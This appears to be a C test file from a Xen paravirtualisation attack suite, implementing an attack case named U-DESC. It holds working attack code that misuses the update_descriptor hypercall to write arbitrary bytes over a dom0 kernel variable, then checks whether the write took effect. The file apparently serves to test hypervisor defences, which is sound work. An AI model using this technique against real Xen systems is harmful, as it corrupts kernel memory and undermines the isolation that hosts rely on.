// SPDX-License-Identifier: GPL-2.0-only
/*
 * Segment descriptors of a PV dom0, which Xen writes for the kernel. In a
 * 64-bit domain Xen defuses every descriptor that would give privilege (ring 0
 * segments, system segments, call gates), so what is left to an attacker is
 * where the eight bytes go.
 */
#include "../rogue.h"

/*
 * U-DESC: write to kernel memory by way of a descriptor.
 *
 * update_descriptor takes any frame of dom0's that is not a page table, and a
 * descriptor that is not present may hold anything else: plain text, eight
 * letters a time.
 */
PV_ATTACK("U-DESC", "write descriptors over a kernel variable",
          "a PVH kernel has descriptor tables of its own")
{
    const uint64_t address = victim();
    const uint64_t machine = kernel_frame(address) * PAGE_SIZE +
                             address % PAGE_SIZE;
    const char *mark = new_mark();

    if ( machine < PAGE_SIZE )
        return cannot_try("no frame for the kernel's variable");

    for ( unsigned int i = 0; i < MARK_SIZE; i += 8 )
    {
        uint64_t descriptor;

        memcpy(&descriptor, mark + i, sizeof(descriptor));
        hypercall2(__HYPERVISOR_update_descriptor, machine + i, descriptor);
    }

    return effect_either(victim_has_mark(), "the kernel's version", "rewritten",
                         "unchanged");
}
